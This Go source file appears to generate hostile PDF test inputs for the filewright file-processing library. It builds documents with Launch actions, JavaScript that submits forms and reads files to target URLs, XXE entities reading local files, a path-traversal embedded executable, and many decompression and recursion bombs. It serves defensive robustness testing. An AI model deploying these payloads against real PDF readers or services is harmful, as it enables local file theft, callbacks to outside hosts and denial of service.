package hostile

import (
	"bytes"
	"compress/flate"
	"compress/zlib"
	"fmt"
	"hash/adler32"
	"io"
	"strings"

	"github.com/filewright/filewright/fileops"
	"github.com/filewright/filewright/internal/tinypdf"
)

// hostilePDFs returns documents that open other documents, run programs, send
// forms, or have external content.
func hostilePDFs(t target) []*fileops.File {
	var out []*fileops.File
	add := func(name, content string) { out = append(out, fileops.Bytes(name, []byte(content))) }
	url := func(s string) string { return "<</Type/Filespec/FS/URL/F(" + s + ")>>" }
	spec := func(s string) string { return "<</Type/Filespec/F(" + s + ")/UF(" + s + ")>>" }
	page := func(more string) string {
		return "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources<</XObject<</X 4 0 R/Y 6 0 R>>/Font<</F 7 0 R>>>>/Contents[5 0 R]" + more + ">>"
	}
	text := tinypdf.Stream("", "BT /F 9 Tf 9 9 Td (x) Tj ET /X Do /Y Do\n")
	image := func(spec string) string {
		return "<</Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/F" + spec + "/Length 0>>stream\n\nendstream"
	}
	font := func(spec string) string {
		return "<</Type/Font/Subtype/TrueType/BaseFont/X/FirstChar 32/LastChar 126/FontDescriptor<</Type/FontDescriptor/FontName/X/Flags 32/FontFile2 8 0 R>>/Name/F>>"
	}
	pages := "<</Type/Pages/Kids[3 0 R]/Count 1>>"
	for i, s := range t.each() {
		where := spec(s)
		if strings.HasPrefix(s, "http") {
			where = url(s)
		}
		add(fmt.Sprintf("streams-%d.pdf", i), pdfOf("<</Type/Catalog/Pages 2 0 R/Metadata 9 0 R/OutputIntents[<</S/GTS_PDFX/DestOutputProfile 8 0 R/DestOutputProfileRef<</URLs["+where+"]>>>>]>>", pages, page(""),
			image(where), "<</F"+where+"/Length 0>>stream\n\nendstream", "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F"+where+"/Page 0>>/OPI<</2.0<</Type/OPI/Version 2.0/F"+where+">>>>/Length 0>>stream\n\nendstream",
			font(where), "<</F"+where+"/Length1 9/Length 0>>stream\n\nendstream", "<</Type/Metadata/Subtype/XML/F"+where+"/Length 0>>stream\n\nendstream"))
		action := "<</S/Launch/F" + where + "/NewWindow true/Win<</F(" + t.path + ")>>/Next[<</S/GoToR/F" + where + "/D[0/Fit]>><</S/GoToE/F" + where + "/D[0/Fit]/T<</R/C/N(x)>>>><</S/SubmitForm/F" + where + "/Flags 4>><</S/ImportData/F" + where + ">><</S/URI/URI(" + s + ")>><</S/Sound/Sound<</F" + where + ">>>><</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D" + where + "/CT(video/mp4)>>>>>><</S/Thread/F" + where + "/D 0>>" +
			"<</S/JavaScript/JS(app.launchURL\\('" + s + "'\\);this.submitForm\\('" + s + "'\\);this.getURL\\('" + s + "'\\);app.openDoc\\('" + s + "'\\);SOAP.connect\\('" + s + "'\\);util.readFileIntoStream\\('" + s + "'\\))>>]>>"
		add(fmt.Sprintf("actions-%d.pdf", i), pdfOf("<</Type/Catalog/Pages 2 0 R/OpenAction "+action+"/AA<</WC "+action+"/WP "+action+">>/URI<</Base("+t.base+"/)>>/Names<</JavaScript<</Names[(x)"+action+"]>>/EmbeddedFiles<</Names[(../../x.exe)<</Type/Filespec/F(../../x.exe)/EF<</F 4 0 R>>>>]>>/URLS<</Names[(x)("+s+")]>>>>/AcroForm<</Fields[8 0 R]/NeedAppearances true/XFA 9 0 R>>>>", pages,
			page("/AA<</O "+action+"/C "+action+">>/Annots[8 0 R<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F"+where+">>>><</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A "+action+">><</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS"+where+">><</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A "+action+">>]"),
			tinypdf.Stream("/Type/EmbeddedFile", "MZ"), text, tinypdf.Stream("/Type/XObject/Subtype/PS", "("+t.path+") (r) file\n"), "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
			"<</Type/Annot/Subtype/Widget/FT/Tx/T(f)/Rect[0 0 9 9]/AA<</F "+action+"/K "+action+"/V "+action+">>>>",
			tinypdf.Stream("", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "`+s+`">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform usehref="`+s+`"><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("`+s+`")</script><submit target="`+s+`"/></event><draw><value><image href="`+s+`"/></value></draw></subform></template><xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><x>&e;</x></xfa:datasets></xdp:xdp>`)))
	}
	add("metadata.pdf", pdfOf("<</Type/Catalog/Pages 2 0 R/Metadata 4 0 R>>", pages, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>",
		tinypdf.Stream("/Type/Metadata/Subtype/XML", `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><!DOCTYPE x [<!ENTITY e SYSTEM "`+t.file+`"><!ENTITY % p SYSTEM "`+t.base+`/dtd">%p;]><x:xmpmeta xmlns:x="adobe:ns:meta/">&e;</x:xmpmeta><?xpacket end="w"?>`)))
	return out
}

// pdfBombs returns documents that are larger than they look, or have cycles.
func pdfBombs() []*fileops.File {
	var out []*fileops.File
	add := func(name, content string) { out = append(out, fileops.Bytes(name, []byte(content))) }
	catalog, pages, page := "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources<</XObject<</X 5 0 R>>/Pattern<</P 5 0 R>>/Font<</F 5 0 R>>>>/Contents 4 0 R>>"
	// Compressed twice, by a factor of a thousand each time.
	add("nested.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("/Filter[/FlateDecode/FlateDecode]", zlibbed(zlibRepeated(strings.Repeat("q Q\n", 256<<10), 300)))))
	add("chain.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("/Filter["+strings.Repeat("/FlateDecode", 20)+strings.Repeat("/ASCIIHexDecode", 20)+"/RunLengthDecode/LZWDecode]", zlibbed(zlibbed(zeros(1<<20))))))
	add("predictor.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 255/BitsPerComponent 16>>", zlibbed(zeros(1<<20)))))
	add("count.pdf", pdfOf(catalog, "<</Type/Pages/Kids["+strings.Repeat("3 0 R ", 3000)+"]/Count 2147483647>>", page, tinypdf.Stream("", "q Q")))
	// Ten kids per node, nine levels deep: a billion pages.
	tree := []string{catalog}
	for i := 2; i < 11; i++ {
		parent := ""
		if i > 2 {
			parent = fmt.Sprintf("/Parent %d 0 R", i-1)
		}
		tree = append(tree, fmt.Sprintf("<</Type/Pages/Kids[%s]/Count 1000000000%s>>", strings.Repeat(fmt.Sprintf("%d 0 R ", i+1), 10), parent))
	}
	add("tree.pdf", pdfOf(append(tree, "<</Type/Page/Parent 10 0 R/MediaBox[0 0 99 99]>>")...))
	add("kids.pdf", pdfOf(catalog, "<</Type/Pages/Kids[2 0 R 3 0 R]/Parent 3 0 R/Count 2>>", "<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 1>>"))
	add("resources.pdf", pdfOf(catalog, pages, "<</Type/Page/Parent 2 0 R/MediaBox 3 0 R/Resources 3 0 R/Contents[3 0 R 4 0 R]/Annots 3 0 R>>", tinypdf.Stream("/Length 4 0 R", "q Q")))
	add("outlines.pdf", pdfOf("<</Type/Catalog/Pages 2 0 R/Outlines 5 0 R/Names<</Dests 6 0 R/EmbeddedFiles 6 0 R>>/PageLabels 6 0 R/StructTreeRoot 6 0 R>>", pages, page, tinypdf.Stream("", "q Q"),
		"<</Type/Outlines/First 5 0 R/Last 5 0 R/Next 5 0 R/Parent 5 0 R/Title(x)/Dest[3 0 R/Fit]/Count 99>>", "<</Kids[6 0 R 6 0 R]/Limits[(a)(b)]/K[6 0 R]/Nums[0 6 0 R]>>"))
	add("page.pdf", pdfOf(catalog, pages, "<</Type/Page/Parent 2 0 R/MediaBox[-1e9 -1e9 1e9 1e9]/UserUnit 75000/Contents 4 0 R>>", tinypdf.Stream("", "0 0 1e9 1e9 re f")))
	// Each form draws the next one ten times.
	forms := []string{catalog, pages, page, tinypdf.Stream("", "/X Do")}
	for i := 5; i < 15; i++ {
		forms = append(forms, tinypdf.Stream(fmt.Sprintf("/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</X %d 0 R>>>>", i+1), strings.Repeat("/X Do ", 10)))
	}
	add("forms.pdf", pdfOf(append(forms, tinypdf.Stream("/Type/XObject/Subtype/Form/BBox[0 0 99 99]", "0 0 9 9 re f"))...))
	add("form.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("", "/X Do"), tinypdf.Stream("/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</X 5 0 R>>>>/Group<</S/Transparency>>", "/X Do /X Do")))
	add("pattern.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("", "/Pattern cs /P scn 0 0 99 99 re f"), tinypdf.Stream("/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.00001/YStep 0.00001/Resources<</Pattern<</P 5 0 R>>>>", "/Pattern cs /P scn 0 0 99 99 re f")))
	add("glyphs.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("", "BT /F 9 Tf (aaaa) Tj ET"), "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>", tinypdf.Stream("", "9 0 d0 BT /F 9 Tf (aaaa) Tj ET")))
	add("image.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("", "99 0 0 99 0 0 cm /X Do"), tinypdf.Stream("/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceCMYK/Filter[/FlateDecode/FlateDecode]", zlibbed(zlibRepeated(zeros(1<<20), 500)))))
	add("mask.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("", "99 0 0 99 0 0 cm /X Do"), tinypdf.Stream("/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/SMask 5 0 R/Alternates[<</Image 5 0 R>>]", zeros(81))))
	add("function.pdf", pdfOf(catalog, pages, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources<</Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Function 5 0 R>>>>>>/Contents 4 0 R>>", tinypdf.Stream("", strings.Repeat("/S sh ", 500)),
		tinypdf.Stream("/FunctionType 0/Domain[0 1 0 1 0 1 0 1]/Range[0 1 0 1 0 1]/Size[65535 65535 65535 65535]/BitsPerSample 32", zeros(64))))
	add("operators.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("/Filter/FlateDecode", zlibbed(strings.Repeat("q ", 4<<20)+strings.Repeat("[", 1<<20)+strings.Repeat("<<", 1<<20)))))
	add("deep.pdf", pdfOf("<</Type/Catalog/Pages 2 0 R/X "+strings.Repeat("[", 50000)+strings.Repeat("]", 50000)+"/Y "+strings.Repeat("<</A", 20000)+" 1"+strings.Repeat(">>", 20000)+">>", pages, page, tinypdf.Stream("", "q Q")))
	// Cross-reference tables that refer to each other, and objects that contain
	// themselves.
	plain := pdfOf(catalog, pages, page, tinypdf.Stream("", "q Q"))
	at := strings.LastIndex(plain, "xref\n0")
	add("previous.pdf", strings.Replace(plain, "/Root 1 0 R", fmt.Sprintf("/Root 1 0 R/Prev %d/XRefStm %d", at, at), 1))
	add("size.pdf", strings.Replace(plain, "xref\n0 ", "xref\n0 2147483647\nxref\n0 ", 1))
	stream := "%PDF-1.5\n1 0 obj<</Type/ObjStm/N 2147483647/First 10/Extends 1 0 R/Length 20>>stream\n1 0 2 0 3 0 <</A 1>>   \nendstream endobj\n"
	add("objects.pdf", fmt.Sprintf("%s4 0 obj<</Type/XRef/Size 2147483647/W[1 4 4]/Index[0 2147483647]/Root 2 0 R/Prev %d/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\nstartxref\n%d\n%%%%EOF\n", stream, len(stream), len(zlibbed(strings.Repeat("\x02\x00\x00\x00\x01\x00\x00\x00\x00", 1<<20))), zlibbed(strings.Repeat("\x02\x00\x00\x00\x01\x00\x00\x00\x00", 1<<20)), len(stream)))
	add("security.pdf", strings.Replace(plain, "/Root 1 0 R", "/Encrypt<</Filter/Standard/V 5/R 6/Length 2147483647/P -1/O("+strings.Repeat("o", 48)+")/U("+strings.Repeat("u", 48)+")/OE("+strings.Repeat("o", 32)+")/UE("+strings.Repeat("u", 32)+")/Perms("+strings.Repeat("p", 16)+")/CF<</StdCF<</CFM/AESV3/Length 2147483647>>>>/StmF/StdCF/StrF/StdCF>>/ID[(x)(x)]/Root 1 0 R", 1))
	return out
}

// pdfOf returns a document of objects, of which the first is the catalog.
func pdfOf(objects ...string) string { return string(tinypdf.File("1.7", objects...)) }

// zlibRepeated returns zlib data that decompresses to n times s. It compresses s
// only once.
func zlibRepeated(s string, n int) string {
	var b bytes.Buffer
	w, err := flate.NewWriter(&b, flate.BestCompression)
	if err == nil {
		_, err = w.Write([]byte(s))
	}
	if err == nil {
		err = w.Flush() // nothing after this point refers back, and it is a byte boundary
	}
	if err != nil {
		panic(err) // impossible: writes only to memory
	}
	sum := adler32.New()
	for range n {
		sum.Write([]byte(s))
	}
	return string(sum.Sum([]byte("\x78\xda" + strings.Repeat(b.String(), n) + "\x03\x00")))
}

func zlibbed(s string) string {
	return packed(s, func(w io.Writer) (io.WriteCloser, error) { return zlib.NewWriterLevel(w, zlib.BestCompression) })
}
